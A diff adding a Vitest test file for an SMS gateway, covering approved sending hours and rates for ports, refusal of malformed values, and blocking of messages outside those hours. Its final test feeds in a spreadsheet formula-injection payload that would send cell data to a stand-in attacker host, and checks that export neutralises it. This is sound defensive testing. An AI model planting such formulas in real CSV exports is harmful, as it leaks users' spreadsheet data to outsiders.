@@ -1,0 +1,83 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { startTestGateway, type TestGateway } from './gateway.ts'
+
+/* What a port may send, and when: as it was approved, by file. */
+describe('a port’s approval', () => {
+  let on: TestGateway
+  beforeAll(async () => {
+    on = await startTestGateway('embedded')
+  })
+  afterAll(() => on?.stop())
+
+  const headers = { 'content-type': 'text/csv' }
+  const send = async (rows: string, columns = 'port,partner_id,category,classes,hours,per_minute') =>
+    (await on.call('POST', '/v1/import/ports', `${columns}\n${rows}\n`, { headers })).text
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line))
+  const row = async (port: string) =>
+    (await on.call('GET', '/v1/export/ports')).text.split('\n').find((line) => line.startsWith(`${port},`))
+  const zone = 'Asia/Shanghai'
+  const wall = (hours: number) =>
+    Temporal.Now.plainTimeISO(zone)
+      .add({ hours })
+      .round({ smallestUnit: 'hour', roundingMode: 'floor' })
+      .toString()
+      .slice(0, 5)
+
+  it('names hours and rate, which come out as they went in; the same again changes nothing', async () => {
+    const [line] = await send('10664001,sp-skycast,information,service,08:00 - 22:00,120')
+    expect(line.done).toMatchObject({ taken: 1, refused: 0 })
+    await expect.poll(() => row('10664001')).toMatch(/^10664001,sp-skycast,information,service,08:00-22:00,120,/)
+    expect((await send('10664001,sp-skycast,information,service,08:00-22:00,120'))[0].done.unchanged).toBe(1)
+    // A file from before there were hours says nothing about them.
+    const old = await send('10664001,sp-skycast,information,service otp', 'port,partner_id,category,classes')
+    expect(old[0].done.taken).toBe(1)
+    await expect.poll(() => row('10664001')).toMatch(/,service otp,08:00-22:00,120,/)
+  })
+
+  it.each([
+    ['25:00-26:00', '', 'hours'],
+    ['08:00-08:00', '', 'hours'],
+    ['8-22', '', 'hours'],
+    ['', '0', 'perMinute'],
+    ['', 'many', 'perMinute'],
+  ])('refuses hours %j with rate %j by name', async (hours, rate, field) => {
+    const [line] = await send(`10664002,sp-skycast,information,service,${hours},${rate}`)
+    expect(line.error).toContain(field)
+  })
+
+  it('is kept: outside its hours nothing goes, the partner is told from when again, and the decision stands', async () => {
+    await send(`10664002,sp-skycast,information,service otp,${wall(2)}-${wall(4)},`)
+    await expect.poll(() => row('10664002')).toContain(wall(2))
+    const to = '8613500135721'
+    const items = [{ from: '10664002', to, class: 'service' }]
+    expect((await on.call('POST', '/v1/mt/check', { items })).body.items).toEqual([
+      { allow: false, rule: 'port.hours' },
+    ])
+    const refused = await on.call('POST', '/v1/mt', { from: '10664002', to, text: '路况', class: 'service' })
+    expect([refused.status, refused.body.rule]).toEqual([403, 'port.hours'])
+    expect(
+      Temporal.Instant.from(refused.body.opens_at).toZonedDateTimeISO(zone).toPlainTime().toString().slice(0, 5),
+    ).toBe(wall(2))
+    await expect
+      .poll(async () => (await on.call('GET', `/v1/mt/${refused.body.id}`)).body)
+      .toMatchObject({ allow: false, rule: 'port.hours' })
+    await send(`10664002,sp-skycast,information,service otp,${wall(-1)}-${wall(2)},`)
+    await expect
+      .poll(async () => (await on.call('POST', '/v1/mt/check', { items })).body.items[0])
+      .toEqual({ allow: true, rule: 'allowed' })
+  })
+
+  it('has no name that a spreadsheet works out: it is shown, and comes back as it was', async () => {
+    const name = '=HYPERLINK("http://evil.example?"&A1)'
+    const csv = `partner_id,name_zh,name_en,kind\nsp-formula,"${name.replaceAll('"', '""')}",+1,@x\n`
+    await on.call('POST', '/v1/import/partners', csv, { headers })
+    const exported = async () =>
+      (await on.call('GET', '/v1/export/partners')).text.split('\n').find((line) => line.startsWith('sp-formula'))
+    await expect.poll(exported).toBe(`sp-formula,"'${name.replaceAll('"', '""')}",'+1,'@x`)
+    const again = `partner_id,name_zh,name_en,kind\n${await exported()}\n`
+    const { text } = await on.call('POST', '/v1/import/partners', again, { headers })
+    expect(JSON.parse(text).done).toMatchObject({ unchanged: 1, taken: 0 })
+  })
+})
